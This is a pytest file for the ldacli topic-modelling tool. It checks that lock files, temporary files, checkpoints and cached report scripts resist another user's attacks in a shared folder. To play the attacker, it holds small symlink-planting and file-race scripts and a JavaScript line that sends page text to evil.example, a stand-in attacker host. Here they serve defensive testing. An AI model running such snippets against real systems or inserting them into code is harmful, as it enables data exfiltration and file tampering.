"""ldacli on a shared machine (issue 32, rows 1, 4, 13, 14 and 16): a folder other users can write (a
group folder, a lab server's scratch space), with another user (``nobody``, in a process of its
own) playing the attacks that such a folder allows. Lock and temporary files are opened with
``O_NOFOLLOW`` and acted on through their descriptors; nothing of ours is truncated, chmodded or
made readable through a name someone else chose, and an output replaced behind our back is an
error, never a success. The report's cached scripts are used only from a folder no one else can
write and only if they are the bytes written; a job stopped by the batch system (SIGTERM) leaves
no temporary or lock file anywhere."""

import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time

import numpy as np

import pytest
from click.testing import CliRunner

import ldacli
from ldacli.cli import main
from ldacli.errors import OutputError
from ldacli.files.fileio import atomic_write
from users import as_attacker, need_a_second_user, remove, shared_folder


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture
def shared():
    need_a_second_user()
    folder = shared_folder()
    yield folder
    remove(folder)


PLANT_LINK = "import os, sys; os.symlink(sys.argv[1], sys.argv[2])"


def test_a_lock_file_planted_as_a_symlink_to_a_file_of_ours_is_refused_and_the_file_kept(shared, tmp_path,
                                                                                           small_ldac):
    victim = tmp_path / "thesis.tex"  # ours, in a folder only we can enter
    victim.write_text("four years of work\n")
    model = os.path.join(shared, "model.npz")
    planted = as_attacker(PLANT_LINK, victim, os.path.join(shared, ".model.npz.lock"))
    assert planted.returncode == 0, planted.stderr
    r = run("train", small_ldac, "-k", 3, "--iterations", 2, "--seed", 1, "-o", model)
    assert r.exit_code == 1 and "Traceback" not in r.stderr
    assert f"{model}: cannot write the lock file: {shared}/.model.npz.lock is a symbolic link, which ldacli " \
           "never follows" in r.stderr
    assert victim.read_text() == "four years of work\n" and not os.path.exists(model)
    assert os.path.islink(os.path.join(shared, ".model.npz.lock"))  # left for the user to see, and remove


# Copy a file into the shared folder and date it a year back, as another user can.
PLANT_OLD_COPY = """
import os, shutil, sys, time
shutil.copyfile(sys.argv[1], sys.argv[2])
os.utime(sys.argv[2], (time.time() - 365 * 86400,) * 2)
"""


def test_history_of_a_shared_folder_skips_a_model_another_user_planted_there(shared, planted):
    """Another user's model with an old date in a folder others can write was the history's
    first model, its baseline (issue 49); a model named by its path is still read."""
    mine = [os.path.join(shared, f"m{i}.npz") for i in (1, 2)]
    for i, path in enumerate(mine):
        ldacli.train(planted.corpus, 3, iterations=5, seed=i + 1).save(path)
    source = os.path.join(shared, "source.npz")  # what the other user copies: a model, readable by all
    ldacli.train(planted.corpus, 4, iterations=5, seed=9).save(source)
    os.chmod(source, 0o644)
    theirs = os.path.join(shared, "a-baseline.npz")
    made = as_attacker(PLANT_OLD_COPY, source, theirs)
    assert made.returncode == 0 and os.stat(theirs).st_uid != os.geteuid(), made.stderr
    os.unlink(source)
    r = run("history", shared, "--format", "json")
    assert r.exit_code == 0, r.stderr
    read = [m["path"] for m in json.loads(r.stdout)["models"]]
    assert theirs not in read and sorted(read) == mine
    uid = os.stat(theirs).st_uid
    assert f"{shared}: skipped 1 model(s) another user put there, read only when named: a-baseline.npz (uid {uid})" \
        in r.stderr
    r = run("history", theirs, *mine, "--format", "json")  # named: read
    assert r.exit_code == 0 and json.loads(r.stdout)["models"][0]["path"] == theirs, r.stderr


def test_select_k_continues_no_pair_checkpoint_another_user_planted_in_its_folder(shared, small_ldac):
    """A checkpoint of the pair's very settings (its state theirs to choose), put in select-k's
    folder by another user, was continued as the pair's own (issue 49)."""
    from ldacli.scoring.fixed_topics import holdout_split

    train, _, _ = holdout_split(ldacli.read_corpus(small_ldac), 0.1, seed=1)
    source = os.path.join(shared, "source.npz")  # what the other user copies: a checkpoint, readable by all
    ldacli.train(train, 2, seed=1, iterations=40, threads=1, checkpoint=source)
    os.chmod(source, 0o644)
    theirs = os.path.join(shared, "k2-s1.checkpoint.npz")
    made = as_attacker("import shutil, sys; shutil.copyfile(sys.argv[1], sys.argv[2])", source, theirs)
    assert made.returncode == 0 and os.stat(theirs).st_uid != os.geteuid(), made.stderr
    os.unlink(source)
    r = run("select-k", small_ldac, "-k", 2, "--seeds", 1, "--iterations", 60, "--seed", 1, "--threads", 1, "-q",
            "-o", shared)
    assert r.exit_code == 1 and "at sweep 40" not in r.stderr, r.stderr
    assert r.stderr.startswith(f"Error: {theirs}: expected a file of this user's in select-k's folder, found one of "
                               f"another user (uid {os.stat(theirs).st_uid}), who may have put it there"), r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and not os.path.exists(os.path.join(shared, "k2-s1.npz"))


@pytest.mark.parametrize("command", ["train", "export", "name", "convert"])
def test_a_dangling_lock_link_creates_nothing_where_the_other_user_chose(shared, tmp_path, small_ldac, command):
    ldacli.train(ldacli.read_corpus(small_ldac), 3, iterations=2, seed=1).save(str(tmp_path / "m.npz"))
    wanted = tmp_path / "created-by-us"  # where the other user wants a file of ours to appear
    out = {"train": "model.npz", "export": "theta.tsv", "name": "m.npz", "convert": "c.ldac"}[command]
    target = os.path.join(shared, out)
    if command == "name":
        target = str(tmp_path / "m.npz")  # a model in a folder of ours: the link as a stale one would be
        os.symlink(wanted, tmp_path / ".m.npz.lock")
    else:
        assert as_attacker(PLANT_LINK, wanted, os.path.join(shared, f".{out}.lock")).returncode == 0
    args = {"train": ["train", small_ldac, "-k", 3, "--iterations", 2, "-o", target],
            "export": ["export", tmp_path / "m.npz", "doc-topics", "-o", target],
            "name": ["name", target, 0, "first"],
            "convert": ["convert", small_ldac, "-o", target]}[command]
    r = run(*args)
    assert r.exit_code == 1 and "is a symbolic link, which ldacli never follows" in r.stderr, r.stderr
    assert not wanted.exists()


def test_a_lock_file_owned_by_another_user_is_neither_written_nor_used(shared, small_ldac):
    lock = os.path.join(shared, ".model.npz.lock")
    made = as_attacker("import sys; open(sys.argv[1], 'w').write('1\\n')", lock)
    assert made.returncode == 0, made.stderr
    r = run("train", small_ldac, "-k", 3, "--iterations", 2, "-o", os.path.join(shared, "model.npz"))
    assert r.exit_code == 1 and "belongs to another user" in r.stderr and "remove it" in r.stderr
    assert open(lock).read() == "1\n"  # not truncated, not ours to write


# The attacker of row 4: waits for our temporary file in the shared folder, renames it away and
# puts a symbolic link to it at its name, then says so.
RACER = textwrap.dedent(r"""
    import os, sys, time
    folder, prefix = sys.argv[1], sys.argv[2]
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        found = [n for n in os.listdir(folder) if n.startswith(prefix) and n.endswith(".tmp")]
        if found:
            tmp = os.path.join(folder, found[0])
            os.rename(tmp, tmp + ".stolen")
            os.symlink(tmp + ".stolen", tmp)
            print("swapped", flush=True)
            break
    sys.stdin.readline()
""")


def test_a_temporary_file_raced_in_a_writable_folder_is_neither_exposed_nor_passed_off_as_the_output(shared):
    target = os.path.join(shared, "model.npz")
    racer = as_attacker(RACER, shared, ".model.npz.", wait=False)
    try:
        with pytest.raises(OutputError) as e:
            with atomic_write(target, what="model") as f:
                f.write(b"a private model")
                f.flush()
                assert racer.stdout.readline().strip() == "swapped"  # the other user has moved it
    finally:
        racer.stdin.write("\n")
        racer.stdin.close()
        racer.wait(timeout=30)
    assert str(e.value).startswith(f"{target}: cannot write the model: it was replaced by another file")
    stolen = [n for n in os.listdir(shared) if n.endswith(".stolen")]
    assert stolen  # our bytes, under the name the other user gave them ...
    mode = stat.S_IMODE(os.stat(os.path.join(shared, stolen[0])).st_mode)
    assert mode & 0o077 == 0, oct(mode)  # ... still readable by us alone (it became 0644 by name)
    readable = as_attacker("import sys; print(open(sys.argv[1], 'rb').read())", os.path.join(shared, stolen[0]))
    assert readable.returncode != 0 and "Permission denied" in readable.stderr


@pytest.mark.parametrize("how", ["name", "retrain", "export"])
def test_a_private_file_stays_private_when_it_is_replaced(tmp_path, small_ldac, how):
    model = tmp_path / "m.npz"
    assert run("train", small_ldac, "-k", 3, "--iterations", 2, "--seed", 1, "-o", model).exit_code == 0
    target = tmp_path / "theta.tsv" if how == "export" else model
    if how == "export":
        target.write_text("yesterday's\n")
    os.chmod(target, 0o600)
    args = {"name": ["name", model, 0, "first"],
            "retrain": ["train", small_ldac, "-k", 3, "--iterations", 2, "--seed", 2, "-o", model],
            "export": ["export", model, "doc-topics", "-o", target]}[how]
    r = run(*args)
    assert r.exit_code == 0, r.stderr
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
    # a new file gets 0666 minus the umask, as before
    r = run("export", model, "doc-topics", "-o", tmp_path / "new.tsv")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(os.stat(tmp_path / "new.tsv").st_mode) == 0o666 & ~umask


# --- the report's cached scripts (row 16) ---------------------------------------------------------------

@pytest.mark.slow
def test_a_changed_or_truncated_script_cache_is_never_put_in_a_report(tmp_path, small_ldac, monkeypatch):
    pytest.importorskip("vl_convert", reason="the report extra is not installed: pip install 'ldacli[report]'")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    model = tmp_path / "m.npz"
    assert run("train", small_ldac, "-k", 3, "--iterations", 2, "--seed", 1, "-o", model).exit_code == 0
    assert run("report", model, "-o", tmp_path / "first.html").exit_code == 0
    [cached] = (tmp_path / "cache" / "ldacli").iterdir()
    bundle = cached.read_text(encoding="utf-8")
    assert bundle in (tmp_path / "first.html").read_text(encoding="utf-8")
    evil = "fetch('https://evil.example/'+document.body.innerText);"
    for changed in (bundle + evil, bundle[: len(bundle) // 2]):  # whoever could write it; a disk that filled up
        cached.write_text(changed, encoding="utf-8")
        r = run("report", model, "-o", tmp_path / "r.html")
        assert r.exit_code == 0, r.stderr
        page = (tmp_path / "r.html").read_text(encoding="utf-8")
        assert evil not in page and bundle in page
    # a cache folder others can write is not used at all: anyone could have put a matching file there
    os.chmod(tmp_path / "cache" / "ldacli", 0o777)
    for f in (tmp_path / "cache" / "ldacli").iterdir():
        f.unlink()
    digest = cached.name
    (tmp_path / "cache" / "ldacli" / digest).write_text(bundle + evil, encoding="utf-8")  # a wrong hash, and
    assert run("report", model, "-o", tmp_path / "r2.html").exit_code == 0
    assert evil not in (tmp_path / "r2.html").read_text(encoding="utf-8")
    assert os.listdir(tmp_path / "cache" / "ldacli") == [digest]  # nothing written into it either


# --- SIGTERM outside the training loop (row 14) ------------------------------------------------------------

def _big_model(path, docs=60_000, topics=200):
    rng = np.random.default_rng(1)
    m = ldacli.Model(phi=rng.dirichlet(np.ones(50), topics), theta=rng.dirichlet(np.ones(topics), docs),
                     alpha=np.full(topics, 0.1), beta=0.01, vocab=[f"w{i}" for i in range(50)],
                     doc_ids=[str(d) for d in range(docs)], loglik_iterations=np.array([1]),
                     loglik_per_token=np.array([-5.0]), params={"method": "cgs", "n_topics": topics})
    m.save(str(path))


def _term_while(cmd, started):
    """Run ``cmd``, send it SIGTERM once ``started()`` says it is at work, return it finished."""
    proc = subprocess.Popen([sys.executable, "-m", "ldacli", *map(str, cmd)], stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not started() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    assert proc.poll() is None, "it finished before it could be stopped: make the work bigger"
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=60)
    return proc


def _leftovers(folder):
    return sorted(n for n in os.listdir(folder) if n.endswith((".tmp", ".lock")))


@pytest.mark.slow
def test_sigterm_while_export_writes_leaves_nothing_behind(tmp_path):
    _big_model(tmp_path / "m.npz")
    out = tmp_path / "theta.tsv"
    proc = _term_while(["export", tmp_path / "m.npz", "doc-topics", "-o", out],
                       lambda: any(n.startswith(".theta.tsv.") and n.endswith(".tmp") for n in os.listdir(tmp_path)))
    assert proc.returncode == 143 and proc.stderr.read().strip().endswith("stopped by SIGTERM")
    assert _leftovers(tmp_path) == [] and not out.exists()


@pytest.mark.slow
def test_sigterm_while_the_final_model_is_written_leaves_nothing_behind(tmp_path):
    from ldacli.corpora.synthetic import generate
    corpus = generate(40_000, 5, 50, doc_length=4, seed=3).corpus
    ldacli.write_corpus(corpus, str(tmp_path / "c.ldac"), str(tmp_path / "c.vocab"))
    previous = tmp_path / "m.npz"
    previous.write_bytes(b"yesterday's model")
    writing = lambda: any(n.startswith(".m.npz.") and n.endswith(".tmp") for n in os.listdir(tmp_path))  # noqa: E731
    proc = _term_while(["train", tmp_path / "c.ldac", "-k", 400, "--iterations", 1, "--seed", 1, "-q", "-o", previous],
                       writing)
    assert proc.returncode == 143, proc.stderr.read()
    assert previous.read_bytes() == b"yesterday's model" and _leftovers(tmp_path) == []


def test_a_signal_as_a_member_of_a_file_is_being_closed_stops_the_writing_and_leaves_nothing(tmp_path, monkeypatch):
    # SIGTERM raises in the main thread wherever it is; at the very start of closing a member of
    # the archive (CI met it, in the test above), closing the archive then failed ("an open
    # writing handle") and that ValueError, a traceback and exit 1, hid the signal
    import zipfile

    from ldacli.cli.exits import Terminated
    from ldacli.files.npz import write_npz

    close = zipfile._ZipWriteFile.close

    def interrupted(self):
        monkeypatch.setattr(zipfile._ZipWriteFile, "close", close)  # (once)
        raise Terminated()
    monkeypatch.setattr(zipfile._ZipWriteFile, "close", interrupted)
    path = tmp_path / "m.npz"
    path.write_bytes(b"yesterday's model")
    with pytest.raises(Terminated):
        write_npz(str(path), {"a": np.arange(10), "b": np.arange(5)})
    assert path.read_bytes() == b"yesterday's model" and _leftovers(tmp_path) == []
    write_npz(str(path), {"a": np.arange(10)})  # and the next writing is whole
    assert np.load(path)["a"].tolist() == list(range(10))
